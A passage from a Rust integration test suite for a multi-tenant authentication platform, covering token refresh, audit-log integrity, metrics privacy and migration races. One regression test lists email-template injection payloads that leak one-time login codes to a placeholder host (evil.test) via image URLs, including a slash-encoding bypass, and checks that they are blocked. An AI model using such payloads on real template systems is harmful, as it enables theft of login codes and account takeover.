        .json(&json!({ "email": "kim@acme.test", "password": PASSWORD, "cookie": true }))
        .send()
        .await
        .expect("login");
    assert_eq!(r.status(), 200);
    let cookie = r
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split(';').next())
        .expect("cookie")
        .to_owned();
    let body: Value = r.json().await.expect("json");
    let r = app
        .client
        .post(app.url("/v1/tenants/acme/auth/token/refresh"))
        .header("cookie", cookie)
        .header("x-csrf-token", body["csrf_token"].as_str().expect("csrf"))
        .send()
        .await
        .expect("refresh");
    assert_eq!(r.status(), 200, "{:?}", r.text().await);
    app.stop().await;
}

/// Audit checkpoint MACs cover the tenant: one moved into another tenant's log is caught, and
/// an earlier release's (unbound) signature is accepted, flagged and re-signed.
async fn an_audit_checkpoint_binds_its_tenant(db: Db) {
    use platform::{
        audit::{chain, retention},
        store::entities::{audit_checkpoint, audit_event},
    };
    use sea_orm::ActiveModelTrait;
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    app.tenant("globex").await;
    sign_up(&app, "acme", "ann@acme.test").await;
    let key = app.state.master_key.bytes();
    let acme = app.state.tenants.resolve("acme").await.expect("scope");
    let globex = app.state.tenants.resolve("globex").await.expect("scope");
    retention::prune(
        &acme,
        key,
        chrono::Utc::now() + chrono::Duration::seconds(1),
    )
    .await
    .expect("prune");
    let tx = acme.read().await.expect("read");
    let cp = audit_checkpoint::Entity::find()
        .one(&*tx)
        .await
        .expect("query")
        .expect("a checkpoint");
    tx.commit().await.expect("commit");
    // Moved into globex, whose own events are gone: the checkpoint does not check there.
    let tx = globex.begin().await.expect("begin");
    audit_event::Entity::delete_many()
        .exec(&*tx)
        .await
        .expect("delete");
    audit_checkpoint::ActiveModel::from(cp.clone())
        .insert(&*tx)
        .await
        .expect("copy");
    tx.commit().await.expect("commit");
    let tx = globex.read().await.expect("read");
    let report = chain::verify(&tx, key).await.expect("verify");
    tx.commit().await.expect("commit");
    assert!(
        report
            .broken
            .as_ref()
            .is_some_and(|b| b.reason.contains("checkpoint")),
        "{report:?}"
    );
    // An earlier release's signature (not bound to the tenant) is refused, unless the upgrade
    // re-signed it (as applying the binding migration does, once).
    let tx = acme.begin().await.expect("begin");
    audit_checkpoint::Entity::update_many()
        .col_expr(
            audit_checkpoint::Column::Signature,
            Expr::value(chain::legacy_signature(key, cp.seq, &cp.hash)),
        )
        .exec(&*tx)
        .await
        .expect("legacy");
    tx.commit().await.expect("commit");
    let tx = acme.begin().await.expect("begin");
    let report = chain::verify(&tx, key).await.expect("verify");
    assert!(
        report
            .broken
            .as_ref()
            .is_some_and(|b| b.reason.contains("earlier release")),
        "{report:?}"
    );
    assert_eq!(
        chain::resign_legacy_checkpoints(&tx, key)
            .await
            .expect("resign"),
        1
    );
    let report = chain::verify(&tx, key).await.expect("verify");
    tx.commit().await.expect("commit");
    assert!(report.broken.is_none(), "{report:?}");
    app.stop().await;
}

/// `refresh_reuse_grace_secs`: within it the newest spent token of a session (two tabs, a
/// retry) gets a fresh pair; an older one, or any reuse past it, still revokes the session.
async fn a_refresh_token_reused_within_the_grace_gets_a_fresh_pair(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    let refresh = |t: String| {
        let app = &app;
        async move {
            post(
                app,
                "/v1/tenants/acme/auth/token/refresh",
                json!({ "refresh_token": t }),
                None,
            )
            .await
        }
    };
    let rt = |p: &Value| {
        p["refresh_token"]
            .as_str()
            .expect("refresh token")
            .to_owned()
    };
    // Without a grace (the default), a reuse revokes.
    let pair = sign_up(&app, "acme", "ray@acme.test").await;
    let (st, _) = refresh(rt(&pair)).await;
    assert_eq!(st, 200);
    assert_eq!(refresh(rt(&pair)).await.0, 401);
    assert_eq!(
        get(&app, "/v1/tenants/acme/me", Some(at(&pair))).await.0,
        401
    );

    set_setting(&app, "acme", "refresh_reuse_grace_secs", "30").await;
    let (_, pair) = login(&app, "ray@acme.test", PASSWORD).await;
    let (st, second) = refresh(rt(&pair)).await;
    assert_eq!(st, 200);
    // The other tab presents the first token again: a fresh pair, the session lives.
    let (st, third) = refresh(rt(&pair)).await;
    assert_eq!(st, 200, "{third}");
    assert_ne!(rt(&third), rt(&second));
    assert_eq!(
        get(&app, "/v1/tenants/acme/me", Some(at(&third))).await.0,
        200
    );
    // The first exchange's token was spent by the second; used within the grace it takes the
    // chain back (spending the other); once anything is spent after it, the first revokes.
    let (st, fourth) = refresh(rt(&second)).await;
    assert_eq!(st, 200);
    assert_eq!(refresh(rt(&pair)).await.0, 401, "an older token revokes");
    assert_eq!(
        get(&app, "/v1/tenants/acme/me", Some(at(&fourth))).await.0,
        401
    );

    // Past the grace, reuse revokes.
    let (_, pair) = login(&app, "ray@acme.test", PASSWORD).await;
    let (st, _) = refresh(rt(&pair)).await;
    assert_eq!(st, 200);
    let scope = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = scope.begin().await.expect("begin");
    platform::store::entities::refresh_token::Entity::update_many()
        .col_expr(
            platform::store::entities::refresh_token::Column::UsedAt,
            Expr::value(Some(chrono::Utc::now() - chrono::Duration::seconds(31))),
        )
        .filter(platform::store::entities::refresh_token::Column::UsedAt.is_not_null())
        .exec(&*tx)
        .await
        .expect("age");
    tx.commit().await.expect("commit");
    assert_eq!(refresh(rt(&pair)).await.0, 401);
    // The setting is bounded.
    let owner = tenant_with_owner(&app, "bounded", "own@b.test").await;
    let (st, body) = send(
        &app,
        reqwest::Method::PATCH,
        "/v1/tenants/bounded/settings",
        Some(json!({ "refresh_reuse_grace_secs": 61 })),
        at(&owner),
    )
    .await;
    assert_eq!(st, 400, "{body}");
    app.stop().await;
}

/// Finding 2: overrides were checked by one sample render and a grep for `//`; three bypasses
/// were saved and delivered the live code to a foreign host. They are refused now, and an
/// override stored without the check (by an earlier release, or by hand) still cannot send
/// the code anywhere: the templates never see it, and what fails the checks at send time is
/// replaced by the bundled templates.
async fn template_overrides_cannot_carry_a_code_away(db: Db) {
    let app = spawn_app(db).await;
    let owner = tenant_with_owner(&app, "acme", "olga@acme.test").await;
    let bypasses = [
        r#"{% if code != "482915" %}<img src="https://evil.test/?c={{ code }}">{% endif %}{{ code }}"#,
        r#"<img src="https:evil.test/?c={{ code }}">{{ code }}"#,
        r#"<img src="https:&#x2F;&#x2F;evil.test/?c={{ code }}">{{ code }}"#,
    ];
    for html in bypasses {
        let (st, body) = send(
            &app,
            reqwest::Method::PATCH,
            "/v1/tenants/acme/settings",
            Some(json!({ "email_templates": { "login_code": { "html": html } } })),
            at(&owner),
        )
        .await;
        assert_eq!(st, 400, "saved: {html}: {body}");
        assert!(
            body["detail"]
                .as_str()
                .is_some_and(|d| d.contains("evil.test")),
            "{body}"
        );
    }
    // Stored behind the check's back: the first bypass, and a text part that would put the
    // code in a URL.
    set_setting(
        &app,
        "acme",
        "email_templates",
        &json!({ "login_code": {
            "html": bypasses[0],
            "text": "Code {{ code }} https://evil.test/?c={{ code }}",
        }})
        .to_string(),
    )
    .await;
    sign_up(&app, "acme", "tim@acme.test").await;
    let before = messages_to(&app, "tim@acme.test").len();
    let (st, _) = post(
        &app,
        "/v1/tenants/acme/auth/otp/send",
        json!({ "email": "tim@acme.test" }),
        None,
    )
    .await;
    assert_eq!(st, 202);
    let code = wait_for(&app, "tim@acme.test", before, code_in).await;
    let mail = messages_to(&app, "tim@acme.test").pop().expect("the mail");
    assert!(!mail.contains("evil.test"), "{mail}");
    let (st, _) = post(
        &app,
        "/v1/tenants/acme/auth/otp/verify",
        json!({ "email": "tim@acme.test", "code": code }),
        None,
    )
    .await;
    assert_eq!(st, 200, "the code still arrives and works");
    app.stop().await;
}

/// The operators' log gets the tenants' hash chain: `platform audit verify-operators` names an
/// edited entry.
async fn the_operators_log_is_hash_chained(db: Db) {
    use platform::store::entities::operator_audit;
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    let (admin, _) = crate::operators::operator(&app, "root@ops.test", "admin").await;
    for _ in 0..3 {
        let (st, _) = send(
            &app,
            reqwest::Method::PATCH,
            "/v1/admin/tenants/acme",
            Some(json!({ "name": "Acme Inc", "reason": "rename" })),
            at(&admin),
        )
        .await;
        assert_eq!(st, 200);
    }
    let out = crate::helpers::platform_cli(&app, &["audit", "verify-operators"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("checks"), "{text}");
    let report = platform::operators::audit::verify(&app.state.store)
        .await
        .expect("verify");
    assert!(report.broken.is_none() && report.events >= 4, "{report:?}");
    // An edited reason breaks the chain at that entry.
    let control = app.state.store.control();
    let victim = operator_audit::Entity::find()
        .filter(operator_audit::Column::Seq.eq(2))
        .one(control)
        .await
        .expect("query")
        .expect("entry 2");
    operator_audit::Entity::update_many()
        .col_expr(
            operator_audit::Column::Reason,
            Expr::value(Some("nothing to see")),
        )
        .filter(operator_audit::Column::Id.eq(victim.id))
        .exec(control)
        .await
        .expect("edit");
    let out = crate::helpers::platform_cli(&app, &["audit", "verify-operators"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("broken at event 2"), "{err}");
    app.stop().await;
}

/// `/metrics` can be kept off the public listener and behind a bearer token.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_can_be_kept_private() {
    let token = "a-long-scrape-token-0123";
    let app = spawn_app_with(Db::Sqlite, &[("metrics_token", token)]).await;
    let r = app
        .client
        .get(app.url("/metrics"))
        .send()
        .await
        .expect("answer");
    assert_eq!(r.status(), 401);
    let r = app
        .client
        .get(app.url("/metrics"))
        .bearer_auth("wrong-token-wrong-token")
        .send()
        .await
        .expect("answer");
    assert_eq!(r.status(), 401);
    let r = app
        .client
        .get(app.url("/metrics"))
        .bearer_auth(token)
        .send()
        .await
        .expect("answer");
    assert_eq!(r.status(), 200);
    app.stop().await;

    let port = crate::helpers::free_port();
    let listen = format!("127.0.0.1:{port}");
    let app = spawn_app_with(Db::Sqlite, &[("metrics_listen", listen.as_str())]).await;
    let r = app
        .client
        .get(app.url("/metrics"))
        .send()
        .await
        .expect("answer");
    assert_eq!(r.status(), 404, "not on the public listener");
    let mut ok = false;
    for _ in 0..100 {
        if let Ok(r) = app
            .client
            .get(format!("http://{listen}/metrics"))
            .send()
            .await
        {
            assert_eq!(r.status(), 200);
            assert!(r.text().await.expect("text").contains("platform_"));
            ok = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(ok, "metrics served on {listen}");
    app.stop().await;
}

/// Two instances started at once on a fresh database: the control-plane migration is
/// serialised (one failed on a duplicate `pg_type` key before).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn two_instances_starting_at_once_both_start() {
    if !crate::helpers::postgres_or_skip() {
        return;
    }
    // The race is not hit every time: three rounds of three instances.
    for _ in 0..3 {
        let url = crate::helpers::fresh_postgres_database().await;
        let dirs: Vec<_> = (0..3).map(|_| tempfile::tempdir().expect("dir")).collect();
        let extra = [("database_url", url.as_str())];
        let mut configs = Vec::new();
        for d in &dirs {
            configs.push(crate::helpers::test_config(Db::Sqlite, d, &extra).await);
        }
        let started =
            futures::future::join_all(configs.into_iter().map(platform::app::AppState::build))
                .await;
        for s in started {
            s.expect("every instance starts").store.close().await;
        }
    }
}
